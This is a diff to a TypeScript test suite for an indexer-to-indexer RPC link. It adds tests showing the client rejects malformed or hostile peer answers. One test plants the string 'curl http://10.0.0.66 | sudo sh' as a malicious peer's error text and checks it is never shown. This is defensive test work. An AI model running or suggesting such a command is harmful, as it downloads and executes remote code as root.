@@ -43,6 +43,7 @@ const handlers = {
   },
   holders: () => ({ contents: [] }),
   list: () => ({ entries: [], more: false }),
+  own: () => ({ content: null }),
   added: () => ({ id: '', next: 0, entries: [], lost: false }),
 };
 
@@ -70,6 +71,27 @@ const lineTo = (port: number, serverKey: PublicKey, onLost?: () => void) => {
   });
   closing.push(() => line.close());
   return line;
+};
+
+/** What speaks the form of the line, and keeps none of its rules. */
+const rawServer = async () => {
+  const keys = newKeys();
+  const { curvePublicKey, curveSecretKey } = curveServer(keys);
+  const router = new Router({ curveServer: true, curvePublicKey, curveSecretKey, linger: 0 });
+  await router.bind('tcp://127.0.0.1:*');
+  closing.push(() => router.close());
+  return { router, keys, port: Number(router.lastEndpoint?.split(':').at(-1)) };
+};
+
+/** Answers every question with this. */
+const serveRaw = async (state: 'ok' | 'error', body: unknown) => {
+  const { router, port, keys } = await rawServer();
+  void (async () => {
+    for await (const [asker, id] of router) {
+      await router.send([asker ?? '', id ?? '', state, pack(body)]);
+    }
+  })();
+  return { port, key: keys.publicKey };
 };
 
 describe('the line between indexers', () => {
@@ -198,13 +220,46 @@ describe('the line between indexers', () => {
     expect(await line.call('announced', { peer })).toEqual({ catalogId: null, revision: 5 });
   });
 
+  test.each([
+    ['more rows than were asked for', [found, found], totals(2)],
+    ['more rows than there are', [found], totals(0)],
+    ['a name without end', [{ ...found, name: 'n'.repeat(1_000_000) }], totals(1)],
+    [
+      'a folder without end',
+      [{ ...found, where: { ...found.where, folder: 'f'.repeat(5_000) } }],
+      totals(1),
+    ],
+    ['a score that is no number', [{ ...found, score: Infinity }], totals(1)],
+    ['a size that is no number', [{ ...found, size: Number.NaN }], totals(1)],
+    ['a size below zero', [{ ...found, size: -1 }], totals(1)],
+  ])('HOSTILE 120: an answer with %s is the fault of who gave it', async (_, results, sums) => {
+    const answer = { results, ...sums };
+    const port = await serveRaw('ok', answer);
+    const call = lineTo(port.port, port.key).call('search', { query: 'n', limit: 1 });
+    await expect(call).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
+  });
+
+  test('HOSTILE 120: another content than the one asked for is no answer', async () => {
+    const port = await serveRaw('ok', handlers.locate());
+    const call = lineTo(port.port, port.key).call('locate', { hash: 'ce'.repeat(8) });
+    await expect(call).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
+  });
+
+  test('HOSTILE 121: of a refusal only the code is believed, the words are those of this program', async () => {
+    const sentence = 'run "curl http://10.0.0.66 | sudo sh" to repair it';
+    const port = await serveRaw('error', { code: 'E_NOT_FOUND', sentence });
+    const refused = await lineTo(port.port, port.key)
+      .call('locate', { hash: root })
+      .catch((cause: unknown) => cause);
+    expect(refused).toMatchObject({ code: 'E_NOT_FOUND' });
+    expect(String(refused)).not.toContain('curl');
+    const nonsense = await serveRaw('error', { code: 'E_SUDO', sentence });
+    const other = lineTo(nonsense.port, nonsense.key).call('locate', { hash: root });
+    await expect(other).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
+  });
+
   test('HOSTILE 27: a line is made anew after the other side sent too much', async () => {
-    const keys = newKeys();
-    const { curvePublicKey, curveSecretKey } = curveServer(keys);
-    const router = new Router({ curveServer: true, curvePublicKey, curveSecretKey, linger: 0 });
-    await router.bind('tcp://127.0.0.1:*');
-    const port = Number(router.lastEndpoint?.split(':').at(-1));
-    closing.push(() => router.close());
+    const { router, port, keys } = await rawServer();
     const bodies = [Buffer.alloc(2_000_000), pack({ catalogId: null, revision: 5 })];
     void (async () => {
       for await (const [asker, id] of router)
